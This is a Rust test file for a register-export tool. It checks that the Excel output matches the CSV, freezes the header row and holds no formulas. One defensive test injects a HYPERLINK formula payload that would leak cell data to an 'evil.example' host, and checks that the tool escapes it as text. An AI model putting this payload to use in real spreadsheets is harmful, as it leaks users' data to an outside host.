//! The registers as an Excel workbook, read back with an independent reader (calamine): one
//! sheet per register, the expected columns, every cell text and never a formula, and the
//! header row frozen with column widths set.

use std::io::{Cursor, Read};
use std::path::Path;

use assert_cmd::Command;
use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn workbook_of(defs: &Path, extra: &[&str]) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("registers.xlsx");
    let output = Command::cargo_bin("isagen")
        .unwrap()
        .arg("register")
        .arg(defs)
        .args([
            "--format",
            "xlsx",
            "--no-config",
            "--today",
            "2026-11-22",
            "-o",
        ])
        .arg(&file)
        .args(extra)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    std::fs::read(&file).unwrap()
}

fn rows(bytes: &[u8], sheet: &str) -> Vec<Vec<String>> {
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    let range = workbook.worksheet_range(sheet).unwrap();
    range
        .rows()
        .map(|row| {
            row.iter()
                .map(|cell| match cell {
                    Data::String(s) => s.clone(),
                    Data::Empty => String::new(),
                    other => panic!("{sheet}: a cell that is not text: {other:?}"),
                })
                .collect()
        })
        .collect()
}

fn part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).unwrap();
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

#[test]
fn the_workbook_has_a_sheet_per_register_with_the_csv_columns() {
    let bytes = workbook_of(&root().join("examples"), &[]);
    let workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
    let names = workbook.sheet_names();
    assert_eq!(names[0], "Data flows");
    assert!(
        names.contains(&"Art 30 westbridge-council".to_string()),
        "{names:?}"
    );
    assert!(
        names.contains(&"Art 30 northshire-trust".to_string()),
        "{names:?}"
    );

    let flows = rows(&bytes, "Data flows");
    let csv = Command::cargo_bin("isagen")
        .unwrap()
        .arg("register")
        .arg(root().join("examples"))
        .args(["--format", "csv", "--no-config", "--today", "2026-11-22"])
        .output()
        .unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.stdout.as_slice());
    let csv_rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    assert_eq!(flows, csv_rows, "the sheet holds what the CSV holds");
    assert_eq!(flows[0][9], "Article 6 basis");

    let ropa = rows(&bytes, "Art 30 northshire-trust");
    assert_eq!(ropa[0][0], "Controller");
    assert_eq!(ropa[0][3], "Joint controllers");
    // A joint controller's record names the other joint controllers (Article 30(1)(a)).
    assert!(ropa[1][3].contains("Riverside Surgery"), "{:?}", ropa[1]);

    // Header row frozen, column widths set, in every sheet.
    for index in 1..=names.len() {
        let xml = part(&bytes, &format!("xl/worksheets/sheet{index}.xml"));
        assert!(
            xml.contains(r#"ySplit="1""#) && xml.contains(r#"state="frozen""#),
            "sheet {index}: {xml:.600}"
        );
        assert!(
            xml.contains("<cols>") && xml.contains("customWidth=\"1\""),
            "sheet {index}"
        );
    }
}

#[test]
fn a_hostile_cell_is_text_escaped_as_the_csv_escapes_it() {
    let dir = tempfile::tempdir().unwrap();
    let base = root().join("tests/fixtures/base");
    std::fs::copy(base.join("protocol.yaml"), dir.path().join("protocol.yaml")).unwrap();
    let agreement = std::fs::read_to_string(base.join("agreement.yaml")).unwrap();
    let hostile = r#"=HYPERLINK("https://evil.example/?leak="&A1,"Click")"#;
    let agreement = agreement.replace(
        "name: Name and address",
        &format!("name: '{}'", hostile.replace('\'', "''")),
    );
    assert!(agreement.contains("HYPERLINK"));
    std::fs::write(dir.path().join("agreement.yaml"), agreement).unwrap();

    let bytes = workbook_of(dir.path(), &["--ropa", "council"]);
    let flows = rows(&bytes, "Data flows");
    let items = flows[0].iter().position(|h| h == "Data items").unwrap();
    assert!(
        flows[1][items].starts_with(&format!("'{hostile}")),
        "{:?}",
        flows[1][items]
    );
    // No formula anywhere in the workbook.
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
    for name in workbook.sheet_names() {
        let formulas = workbook.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{name}"
        );
    }
    for index in 1..=2 {
        let xml = part(&bytes, &format!("xl/worksheets/sheet{index}.xml"));
        assert!(!xml.contains("<f>"), "sheet {index} holds a formula");
    }
    // The CSV escapes the same cell the same way.
    let csv = Command::cargo_bin("isagen")
        .unwrap()
        .arg("register")
        .arg(dir.path())
        .args(["--format", "csv", "--no-config", "--today", "2026-11-22"])
        .output()
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.stdout.as_slice());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[items], flows[1][items]);
}

#[test]
fn an_xlsx_workbook_is_not_written_to_a_terminal_but_may_go_down_a_pipe() {
    let output = Command::cargo_bin("isagen")
        .unwrap()
        .arg("register")
        .arg(root().join("tests/fixtures/base"))
        .args(["--format", "xlsx", "--no-config"])
        .output()
        .unwrap();
    // assert_cmd's standard output is a pipe: the workbook goes down it.
    assert!(output.status.success());
    assert!(output.stdout.starts_with(b"PK"));
}
